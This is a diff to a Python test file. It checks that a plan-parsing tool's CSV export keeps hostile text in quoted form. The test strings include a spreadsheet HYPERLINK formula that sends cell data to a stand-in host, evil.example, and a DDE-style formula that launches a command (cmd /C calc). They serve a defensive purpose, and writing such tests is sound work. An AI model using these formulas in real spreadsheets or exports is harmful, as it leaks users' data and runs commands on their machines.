@@ -191,6 +191,7 @@ def test_hostile_text_reaches_the_csv_quoted_not_dropped(planparse, tmp_path: Pa
     plan = write_plan(tmp_path, HOSTILE_PLAN)
     sections = cells(planparse("extract", plan, "--format", "csv", "--table", "sections").stdout)
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" in sections
+    assert "'@SUM(1+1)*cmd|'/C calc'!A0" in sections  # whole: its 1) was an item's marker, the title cut before it
     targets = cells(planparse("extract", plan, "--format", "csv").stdout)
     assert any(cell.startswith("'=HYPERLINK") for cell in targets)  # the headings column
 
